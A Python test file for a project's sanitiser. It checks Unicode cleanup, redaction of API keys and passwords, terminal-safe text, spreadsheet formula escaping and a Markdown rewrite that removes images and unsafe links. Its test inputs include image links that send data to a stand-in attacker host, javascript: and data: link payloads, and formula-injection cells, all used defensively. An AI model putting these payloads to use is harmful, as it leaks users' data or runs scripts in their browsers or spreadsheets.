"""The one sanitising path (lib/safety.py) and the one render rewrite (lib/present.safe_markdown):
valid Unicode, secret redaction, terminal-safe text, spreadsheet-safe cells, Markdown that
fetches and runs nothing."""

import json

import pytest
from markdown_it import MarkdownIt

from lib.present import safe_markdown
from lib.safety import (
    Redactor,
    SurrogateJoiner,
    chart_text,
    clean_json,
    clean_text,
    csv_cell,
    decode_bytes,
    json_text,
    page_text,
    strip_credentials,
    terminal_text,
    url_secrets,
)


def test_lone_surrogates_and_nul_become_replacement_characters_and_pairs_are_joined():
    assert clean_text("a\ud83d\ude00b") == "a😀b"  # two halves that arrived apart make one emoji
    assert clean_text("stray \udc80 and \ud83d.") == "stray \ufffd and \ufffd."
    assert clean_text("nul\x00") == "nul\ufffd"
    assert clean_text("plain 中文") == "plain 中文"
    clean_text("x\ud800").encode("utf-8")  # storable and printable


def test_argv_bytes_that_were_not_utf8_become_replacement_characters():
    # Python decodes such argv bytes with surrogateescape: b"caf\xe9" -> "caf\udce9"
    assert clean_text(b"caf\xe9".decode("utf-8", "surrogateescape")) == "caf\ufffd"
    assert decode_bytes(b"\xef\xbb\xbfcaf\xe9 \xe4\xb8\xad") == "caf\ufffd 中"


def test_a_split_emoji_is_joined_across_chunks_and_a_dangling_half_is_replaced_at_the_end():
    joiner = SurrogateJoiner()
    assert [joiner.feed("Smile \ud83d"), joiner.feed("\ude00!"), joiner.feed("\ud83d")] == ["Smile ", "😀!", ""]
    assert joiner.flush() == "\ufffd"


def test_json_values_are_cleaned_keys_and_all():
    assert clean_json({"k\udc80": ["\ud83d", 3, {"x": "\x00"}]}) == {"k\ufffd": ["\ufffd", 3, {"x": "\ufffd"}]}


def test_url_credentials_are_found_and_stripped():
    url = "https://bob:s3cr%40t-pass@llm.example:8443/v1?key=AIzaSyQueryKey123"
    assert {"s3cr@t-pass", "AIzaSyQueryKey123"} <= set(url_secrets(url))
    assert strip_credentials(url) == "https://llm.example:8443/v1?key=AIzaSyQueryKey123"


def test_redactor_removes_known_secrets_and_authorization_values():
    redact = Redactor(["sk-live-1234567890", "short"])
    text = redact('bad key sk-live-1234567890; {"Authorization": "Bearer other-token-xyz"} short')
    assert "sk-live-1234567890" not in text and "other-token-xyz" not in text
    assert text.endswith("short")  # values under 8 characters are too common to replace


def test_terminal_text_drops_escape_sequences_but_keeps_lines():
    assert terminal_text("red \x1b[31mtext\x07\r\nnext\tcol") == "red [31mtext\nnext\tcol"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("＝1+1", "'＝1+1"),
        ("plain = fine", "plain = fine"),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, expected):
    assert csv_cell(value) == expected


def _tokens(markdown: str):
    # a browser's renderer has no nesting limit: read as deep as the tests go
    md = MarkdownIt("commonmark", {"maxNesting": 10_000}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    md.core.ruler.disable("text_join")
    stack, found = list(md.parse(markdown)), []
    while stack:
        token = stack.pop()
        found.append(token)
        stack += token.children or []
    return found


@pytest.mark.parametrize(
    "text",
    [
        "See ![chart](https://attacker.example/p.png?d=SECRET) now",
        '![t](<https://attacker.example/a b.png> "title")',
        "ref ![x][r]\n\n[r]: https://attacker.example/r.png",
        "![nested [brackets]](https://attacker.example/n.png)",
        "> quoted ![q](https://attacker.example/q.png)\n- item ![i](https://attacker.example/i.png)",
        "`unclosed ![x](https://attacker.example/x.png)",
        "| a | b |\n|---|---|\n| ![c](https://attacker.example/c.png) | x |",
        # deeper than the checking parser reads (20 levels): quotes, lists, emphasis, brackets
        "> " * 25 + "![deep](https://attacker.example/d.png) $5 and $10",
        "".join("  " * i + "- item\n" for i in range(25)) + "  " * 25 + "- ![l](https://attacker.example/l.png)",
        "_" * 40 + "a![e](https://attacker.example/e.png)" + "_" * 40,
        "[" * 60 + "![b](https://attacker.example/b.png)" + "]" * 60,
    ],
)
def test_no_image_survives_the_rewrite(text):
    safe = safe_markdown(text)
    assert not [t for t in _tokens(safe) if t.type == "image"], safe
    assert "attacker.example" in safe.replace("\\", "")  # the URL is still shown, as text


@pytest.mark.parametrize(
    "text",
    [
        "[run](javascript:alert(1))",
        "[d](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "[bad]: javascript:alert(1)\n\n[click][bad]",
        "[v](VBScript:msgbox)",
    ],
)
def test_javascript_and_data_links_become_text(text):
    hrefs = [t.attrs.get("href", "") for t in _tokens(safe_markdown(text)) if t.type == "link_open"]
    assert all(str(h).startswith(("http:", "https:", "mailto:")) for h in hrefs), hrefs


def test_dollars_are_escaped_outside_code_unless_maths_is_on():
    text = "It costs $5 and $10.\n\n`echo $HOME`\n\n```sh\nexport A=$B\n```"
    safe = safe_markdown(text)
    assert "\\$5 and \\$10" in safe and "`echo $HOME`" in safe and "export A=$B" in safe
    assert safe_markdown(text, maths=True) == text
    assert safe_markdown("already \\$5") == "already \\$5"


def test_ordinary_markdown_is_left_as_written():
    text = "# Title\n\n**bold** and [a link](https://example.com), a list:\n\n- one\n- two\n\n"
    text += "| a | b |\n|---|---|\n| 1 | 2 |"
    assert safe_markdown(text) == text


def test_database_passwords_are_hidden_before_the_host_and_in_the_query():
    from db.config import display_database_url, hide_database_secrets

    url = "postgresql+psycopg://alice:PW1secret@db.example/db?password=QUERYPW&sslpassword=SSLPW&sslmode=require"
    shown = display_database_url(url)
    assert "PW1secret" not in shown and "QUERYPW" not in shown and "SSLPW" not in shown
    assert "alice" in shown and "sslmode=require" in shown and "password=***" in shown
    assert hide_database_secrets('password "QUERYPW" was refused', url) == 'password "***" was refused'
    assert display_database_url("not a url") == "(unreadable database URL)"


def test_basic_credentials_and_bidi_overrides_are_removed():
    url = "http://admin:URLPASSWORD99@llm.example/v1"
    redact = Redactor(url_secrets(url))
    token = "YWRtaW46VVJMUEFTU1dPUkQ5OQ=="  # base64("admin:URLPASSWORD99")
    echoed = redact(f'{{"headers": {{"Authorization": "Basic {token}"}}}} and again {token}')
    assert "YWRtaW46VVJMUEFTU1dPUkQ5OQ" not in echoed and "URLPASSWORD99" not in echoed
    assert Redactor()("Proxy-Authorization: Basic dXNlcjpwYXNz") == "Proxy-Authorization: Basic [redacted]"
    assert terminal_text("abc\u202edcb\u2066x\u2069") == "abcdcbx"


def test_clean_json_refuses_a_value_nested_too_deep_without_recursing_for_ever():
    deep: object = "x"
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(ValueError, match="nested more than"):
        clean_json(deep)
    assert clean_json([[["\ud800"]]]) == [[["\ufffd"]]]


@pytest.mark.parametrize(
    "text",
    [
        "[^a]: ![fn](https://attacker.example/f.png)\n\nsee [^a]",
        "[^m]: $\\frac{a}{b}$\n\nsee [^m]",
        "> [^q]: ![q](https://attacker.example/q.png)\n\nsee [^q]",
        "[^a]: ok\n\n    ![x](https://attacker.example/x.png) $x$\n\nsee [^a]",
    ],
)
def test_footnote_definitions_cannot_hide_images_or_maths(text):
    """GFM renders footnotes; CommonMark reads their definitions as link definitions and never
    looks inside: no definition is left for the renderer to make a footnote of."""
    import re

    safe = safe_markdown(text)
    assert not re.search(r"(?<!\\)\[\^[^\]\n]*\]:", safe), safe
    assert not [t for t in _tokens(safe) if t.type == "image"], safe
    code = {t.content for t in _tokens(safe) if t.type in ("code_block", "fence")}
    assert "$" not in "".join(t.content for t in _tokens(safe) if t.type == "text" and t.content not in code)


def test_a_long_unsafe_text_is_shown_plainly_and_fast_enough():
    from lib.present import MAX_REWRITE_CHARS

    text = "![a](" * (MAX_REWRITE_CHARS // 4) + "$"
    assert safe_markdown(text).startswith("```")


def test_a_key_echoed_url_encoded_or_json_escaped_is_redacted():
    key = "sk-AbC/dEf+Gh=ijkl0123456789"
    redact = Redactor(key=key)
    for echoed in ("key=sk-AbC%2FdEf%2BGh%3Dijkl0123456789&x=1", '{"key": "sk-AbC\\/dEf+Gh=ijkl0123456789"}'):
        text = redact(f"the provider said: {echoed} was refused")
        assert "ijkl0123456789" not in text and "[redacted]" in text, text


def test_a_masked_echo_of_a_key_is_redacted_with_what_shows_of_it():
    """Providers echo a wrong key masked ("sk-proj-****abcd", "…123456"): whole keys were
    redacted, but the start and end they show were written to the database and pages."""
    key = "sk-proj-AbCdEfGh0123456789/x+Yz="
    redact = Redactor(["short"], key=key)
    for echoed in (
        "Incorrect API key provided: sk-proj-********************9/x+Yz=.",
        "Incorrect API key provided: sk-p**************+Yz=.",
        "the key …456789/x+Yz= is revoked",
        "the key ...+Yz= is revoked",
        "key sk-proj-AbCd•••• expired",
        'key "sk-proj-AbCd***" expired',
        "key sk-proj-XXXXXXXXXXXX+Yz= is wrong",  # an x mask
        "key sk-proj- **** 9/x+Yz= is wrong",  # spaced around the mask
        "Bad key SK-PROJ-ABCDEFGH0123456789/X+YZ=",  # the whole key upper-cased
        "key …456789/X+YZ= is revoked",
    ):
        text = redact(echoed)
        assert "Yz=" not in text and "AbC" not in text and "[redacted]" in text, text  # sk-proj- is public
    # an ellipsis or a mask beside anything else is left as written, and so are short shown parts
    for kept in (
        "Wait... what?",
        "sk-... is a placeholder",
        "project keys look like sk-proj-... or sk-proj-AbC***",  # the prefix all such keys share, and 3 more
        "expected …Yz=",
        "****",
        "x" * 50 + "..." + "y" * 50,
    ):
        assert redact(kept) == kept
    assert Redactor([])("…456789/x+Yz=") == "…456789/x+Yz="


@pytest.mark.parametrize(
    "char", ["\x7f", "\x85", "\x9b", "\u061c", "\u200e", "\u2028", "\u2029", "\u202e", "\u2067", "\ud800"]
)
def test_json_text_escapes_what_a_terminal_acts_on_and_keeps_the_value(char):
    value = {"model": f"a{char}b", "list": [f"{char}中文"], "n": 1}
    text = json_text(value, indent=2)
    assert char not in text and f"\\u{ord(char):04x}" in text
    assert json.loads(text) == value
    assert "中文" in text  # other text is written as itself


def test_json_text_passes_options_through():
    assert json_text({"a": object()}, default=lambda o: "x") == '{"a": "x"}'


def test_json_text_escapes_every_format_character_of_this_python_and_keeps_the_value():
    import unicodedata

    hidden = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")]
    value = ["x".join(hidden[i : i + 50]) for i in range(0, len(hidden), 50)]
    text = json_text(value)
    assert not any(char in text for char in hidden)
    assert json.loads(text) == value
    assert json_text("\U000e0041") == '"\\udb40\\udc41"'  # a tag character: an escaped surrogate pair


def test_terminal_text_drops_bidirectional_marks_and_spaces_line_separators():
    assert terminal_text("a\u200eb\u200fc\u061cd\u2028e\u2029f") == "abcd e f"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("a\x1bb", "a control character (ESC)"),
        ("a\tb", "a tab"),
        ("a\nb", "a line break"),
        ("a\u2028b", "a line separator (U+2028)"),
        ("a\u202eb", "a bidirectional formatting character (U+202E)"),
        ("gpt\u200b-4o", "an invisible character (U+200B)"),
        ("gpt-4o\ufe0f", "an invisible character (U+FE0F)"),  # a selector after a letter shows nothing
        ("x\U000e0067y", "an invisible character (U+E0067)"),  # a tag outside a flag
        (
            "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f\U000e0067",
            "an invisible character (U+E0067)",
        ),
        ("Llama\u00a0\u200b3", "an invisible character (U+200B)"),
        # a flag Unicode does not recommend shows as the plain black flag: its tags hide text
        ("\U0001f3f4\U000e0069\U000e0067\U000e006e\U000e007f", "an invisible character (U+E0069)"),
        ("\u0301", "a combining mark with no letter before it (U+0301)"),
        (" \u0301gpt", "a combining mark with no letter before it (U+0301)"),
    ],
)
def test_a_one_line_problem_says_what_the_character_is(text, problem):
    from lib.safety import one_line_problem

    assert one_line_problem(text) == problem


@pytest.mark.parametrize(
    "name",
    [
        "\u845b\U000e0100\u57ce",  # a Japanese name's registered glyph: an ideographic variation sequence
        "\u8fbb\U000e0101-LM",
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scotland",  # a subdivision flag
        "\u2764\ufe0f model",
        "台湾（历史）",
    ],
)
def test_spelling_that_shows_is_not_a_one_line_problem_and_is_kept(name):
    from lib.safety import one_line_name, one_line_problem, one_line_text

    assert one_line_problem(name) is None and one_line_name(name) == name and one_line_text(name) == name


def test_full_width_letters_digits_and_name_punctuation_are_stored_as_ascii_chinese_punctuation_stays():
    from lib.safety import one_line_name

    assert (
        one_line_name("\uff31\uff57\uff45\uff4e\uff12\uff0e\uff15\uff0d\uff17\uff12\uff22\uff3f\uff49\uff54")
        == "Qwen2.5-72B_it"
    )
    assert one_line_name("台湾（历史），新疆") == "台湾（历史），新疆"
    # composed after the letters are made ASCII: "Ｃａｆｅ" + a combining accent is "Café"
    assert one_line_name("\uff23\uff41\uff46\uff45\u0301-7B") == "Caf\u00e9-7B"
    assert one_line_name("\U0001d420\U0001d429\U0001d42d-4o") == "gpt-4o"  # mathematical bold, pasted
    assert one_line_name("gpt\ufe634o") == "gpt-4o"  # a small hyphen-minus


def test_the_migration_to_one_spelling_spells_names_as_imports_do_now():
    """Revision 0005 writes the spelling out (a migration must do what it did when written); if
    `one_line_name` changes, stored names need a new revision, and this fails to say so."""
    import importlib.util
    from pathlib import Path

    from lib.safety import one_line_name

    path = Path(__file__).parents[1] / "db/migrations/versions/0005_names_in_one_spelling.py"
    spec = importlib.util.spec_from_file_location("names_in_one_spelling", path)
    migration = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(migration)
    samples = [
        "Llama\u00a0 3",
        "Cafe\u0301-7B",
        "gpt\u20114o",
        "gpt\u22124o",
        " \uff31\uff57\uff45\uff4e\uff0d\uff17\uff22 ",
    ]
    samples += ["台湾\u3000历史", "台湾（历史）", "\u845b\U000e0100\u57ce", "x\u2002\u2003y", "plain"]
    samples += ["\uff23\uff41\uff46\uff45\u0301", "\U0001d420\U0001d429\U0001d42d", "a\ufe63b", "\u0958" * 3]
    for text in samples:
        assert migration.one_spelling(text) == one_line_name(text), text


def test_page_text_drops_what_reorders_a_page_and_keeps_the_rest():
    from lib.present import literal_markdown, safe_markdown

    for char in ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]:
        text = f"a{char}desufer b"
        assert page_text(text) == "adesufer b"
        assert char not in safe_markdown(text) and char not in literal_markdown(text) and char not in chart_text(text)
    kept = "שלום \u200f1989\u200e عربي\u061c 中文"  # marks only set a neutral character's direction
    assert page_text(kept) == kept and safe_markdown(kept) == kept
    assert page_text("a\ud800b") == "a\ufffdb" and page_text(None) == ""


def test_held_back_hides_the_start_of_a_key_until_it_can_be_redacted_whole():
    key = "sk-proj-AbCdEfGh0123456789"
    redact = Redactor(key=key)
    assert redact.held_back("Your key: sk-proj-AbCdE") == "Your key: "
    assert redact.held_back("Your key: SK-PROJ-ABCDEFGH01") == "Your key: "  # any case
    assert redact.held_back("keys look like sk-proj-Ab") == "keys look like sk-proj-Ab"  # the shared prefix and 2
    assert redact.held_back("answers") == "answers" and redact.held_back("") == ""
    assert redact.held_back(redact(f"k {key}")) == "k [redacted]"
    assert Redactor([]).held_back("sk-proj-AbCdE") == "sk-proj-AbCdE"


@pytest.mark.parametrize(
    "echoed",
    [
        "sk-proj-LEAKxxxxxxxxxxxxxxxxxxxxTAIL9",
        "sk-proj-LEAK########AKTAIL9",
        "sk-proj-LEAK\u00b7\u00b7\u00b7\u00b7AKTAIL9",
        "sk-proj-LEAK\u22efAKTAIL9",
        "sk-proj-LEAK~~~~AKTAIL9",
        "sk-proj-LEAK____AKTAIL9",
        "sk-proj-LEAK ... AKTAIL9",
        "sk-proj-LEAK\u200b****\u200bAKTAIL9",
        "token=sk-proj-LEAKHE****",
        '{"error": {"key_prefix": "sk-proj-LEAKHE", "key_suffix": "AKTAIL9"}}',
        "the key (ending in AKTAIL9) is revoked",
        "sk-proj-LEAKHE%2A%2A%2A%2AAKTAIL9",
        "Bad key SK-PROJ-LEAKHEADABCDEFGHIJ0123456789LEAKTAIL9",
    ],
)
def test_the_pieces_of_a_key_a_provider_echoes_are_redacted(echoed):
    """From an attacker's run: x masks, other mask marks, spaces or invisible characters around the
    mask, a key-like word before the key, and a key's pieces in fields of their own all leaked."""
    key = "sk-proj-LEAKHEADabcdefghij0123456789LEAKTAIL9"
    text = Redactor(["unrelated-secret"], key=key)(echoed)
    assert "[redacted]" in text and "leak" not in text.lower() and "ail9" not in text.lower(), text
    assert not any(piece in text for piece in ("LEAKHE", "AKTAIL", "AIL9")), text


def test_ordinary_text_and_keys_that_are_no_secret_are_left_as_written():
    """The placeholder key of a local server ("not-needed", "lm-studio", "sk-no-key-required") and
    a URL's query values are redacted whole only: '…needed', '2024...' and '...preview' are text."""
    text = "Sales grew from 2019 to 2024... and then nothing more...needed. Wait...what? A ...studio, required..."
    for key in ("not-needed", "lm-studio", "sk-no-key-required"):
        assert Redactor(["2024-08-01-preview", "password123"], key=key)(text) == text
    key = "sk-proj-AbCdEfGh0123456789"
    assert Redactor(key=key)("keys look like sk-proj-... or sk-proj-AbC***; well--maybe 789 -- fine") == (
        "keys look like sk-proj-... or sk-proj-AbC***; well--maybe 789 -- fine"
    )
    assert Redactor(["2024-08-01-preview"])("version 2024-08-01-PREVIEW") == "version [redacted]"  # whole, any case


def test_the_public_prefix_is_the_providers_not_the_start_of_the_random_part():
    """`(?:[A-Za-z]+[0-9]*[-_])+` took 'sk-proj-QwErTy_' for public: 16% of random keys leaked
    their first characters; Google's AIzaSy was counted secret and redacted in text about it."""
    key = "sk-proj-QwErTy_Ui93Op4As5Df6Gh7Jk8Lz9Xc0Vb1Nm2"
    redact = Redactor(key=key)
    assert redact("Incorrect API key provided: sk-proj-QwErTy****") == "Incorrect API key provided: [redacted]"
    assert redact.held_back("x sk-proj-QwErTy_Ui9") == "x "
    google = Redactor(key="AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW")
    assert google("Google API keys start with AIzaSy and GEMINI_API_KEY=AIzaSyXXXX") == (
        "Google API keys start with AIzaSy and GEMINI_API_KEY=AIzaSyXXXX"
    )
    assert google("key AIzaSyA1b2****") == "key [redacted]"


def test_a_mask_takes_only_the_key_characters_that_are_the_keys():
    key = "sk-proj-9Qw3ErTyUi8Op4As5Df6Gh7Jk8Lz9Xc0Vb1Nm2"
    redact = Redactor(key=key)
    assert redact("Incorrect API key provided: sk-proj-9Qw3Er****. Please check it.") == (
        "Incorrect API key provided: [redacted] Please check it."  # the full stop read as mask
    )
    assert redact("key ****1Nm2 expired") == "key [redacted] expired"
    for masked in (
        "sk-proj-\uff0a\uff0a\uff0a\uff0a1Nm2",
        "sk-proj-\u2217\u2217\u22171Nm2",
        "x \u2588\u2588\u2588\u25881Nm2",
        "[...]1Nm2",
    ):
        assert "1Nm2" not in redact(masked), masked


def test_placeholder_keys_and_public_query_values_stay_in_text():
    text = "LM-Studio and lm-studio run locally; the date 2024-10-21 and ollama"
    assert Redactor(url_secrets("https://x.openai.azure.com/v1?api-version=2024-10-21"), key="lm-studio")(text) == text
    assert url_secrets("https://h/v1?api-version=2024-10-21&key=AIzaSecret123") == ["AIzaSecret123"]


def test_redaction_reads_each_side_of_a_mask_at_most_a_keys_length():
    """'ab--' repeated: each of its thousands of masks walked back to the start of the run, 4.8 s
    for 16,000 characters, and a stream of it held the whole fan-out. Now linear: the result is
    checked here, the time in bench/redaction.py."""
    key = "sk-proj-9Qw3ErTyUi8Op4As5Df6Gh7Jk8Lz9Xc0Vb1Nm2"
    text = "ab--" * 4000 + " sk-proj-9Qw3ErTy**** end"
    assert Redactor(key=key)(text) == "ab--" * 4000 + " [redacted] end"


def test_a_key_start_after_a_name_or_before_more_key_characters_is_found():
    """From a third attacker: 'key=sk-proj-Ab3d****' read its head as 'key=sk-proj-Ab3d' (no key
    start) and kept it; a tail followed by '/v1' or '==' was kept too."""
    key = "sk-proj-Ab3dE5fG6hI7jK8lM9nO0pQrStUvWxYzdYP2"
    redact = Redactor(key=key)
    assert redact("?key=sk-proj-Ab3d****dYP2") == "?key=[redacted]"
    assert redact("token=sk-proj-Ab3d... rest") == "token=[redacted] rest"
    assert redact("sk-proj-Ab3d***dYP2/v1") == "[redacted]/v1"
    assert redact("***dYP2==") == "[redacted]=="


def test_a_masked_echo_arriving_is_held_back_at_its_first_mark():
    key = "sk-proj-hlkU9a8b7c6d5e4f3g2h1i0jdYP2"
    redact = Redactor(key=key)
    for arriving in ("key sk-proj-hlkU*", "key sk-proj-hlkU ", "key sk-proj-hlkUXXX", "key sk-proj-hlkU."):
        assert redact.held_back(redact(arriving)) == "key ", arriving
    assert redact.held_back("key sk-proj-") == "key sk-proj-"  # the shared prefix alone


def test_ordinary_code_and_words_of_a_key_are_left_in_answers():
    """An answer's code ('api_key=os.environ[…]', 'Authorization: f"Bearer {token}"') is no echo;
    a key made of words ('my-secret-key-2024') does not redact the word 'secret' everywhere."""
    code = 'client = OpenAI(api_key=os.environ["OPENAI_API_KEY"])\\nheaders = {"Authorization": f"Bearer {token}"}'
    assert Redactor(key="sk-proj-Ab3dE5fG6hI7jK8lM9nO0p")(code, headers=False) == code
    assert "[redacted]" in Redactor()('error: "Authorization": "Bearer abc123def456"')  # an error body: yes
    assert Redactor(key="my-secret-key-2024")("The word secret and secrets.") == "The word secret and secrets."
    assert url_secrets("https://sk-abcdef0123456789@h/v1")[0] == "sk-abcdef0123456789"  # a token as the user
